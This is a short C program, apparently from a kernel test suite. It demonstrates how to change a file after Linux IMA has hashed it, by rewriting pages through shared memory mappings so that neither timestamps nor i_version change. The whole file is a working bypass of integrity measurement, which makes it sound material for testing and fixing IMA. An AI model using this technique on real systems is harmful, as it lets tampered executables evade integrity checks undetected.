// SPDX-License-Identifier: GPL-2.0
/*
 * change-mapped: change a file after IMA has hashed it, in such a way that the
 * file system does not notice the change.
 *
 *	change-mapped FILE BYTES
 *
 * FILE gets the bytes of the file BYTES, which has the same size. A page that
 * was written through a mapping can be written again until it is written back,
 * and the second write changes neither a time stamp nor i_version. IMA compares
 * these to find out whether its digest of a file is out of date. IMA hashes the
 * file when the file is mapped for execution.
 */
#define _GNU_SOURCE
#include "attack.h"

static volatile unsigned char *map(const char *path, int open_flags, int prot, int flags, size_t size)
{
	const int fd = check(path, open(path, open_flags | O_CLOEXEC));
	void *at = mmap(NULL, size, prot, flags, fd, 0);

	if (at == MAP_FAILED)
		failed("mmap");
	close(fd);
	return at;
}

int main(int argc, char **argv)
{
	volatile unsigned char *file, *executable;
	const volatile unsigned char *bytes;
	struct stat st;
	off_t i;

	if (argc != 3) {
		fprintf(stderr, "usage: change-mapped FILE BYTES\n");
		return 2;
	}
	check("stat", stat(argv[2], &st));
	bytes = map(argv[2], O_RDONLY, PROT_READ, MAP_PRIVATE, st.st_size);
	file = map(argv[1], O_RDWR, PROT_READ | PROT_WRITE, MAP_SHARED, st.st_size);
	for (i = 0; i < st.st_size; i += 4096)
		file[i] = file[i];
	executable = map(argv[1], O_RDONLY, PROT_READ | PROT_EXEC, MAP_PRIVATE, st.st_size);
	for (i = 0; i < st.st_size; i++)
		file[i] = bytes[i];
	check("munmap", munmap((void *)executable, st.st_size));
	check("munmap", munmap((void *)file, st.st_size));
	return 0;
}
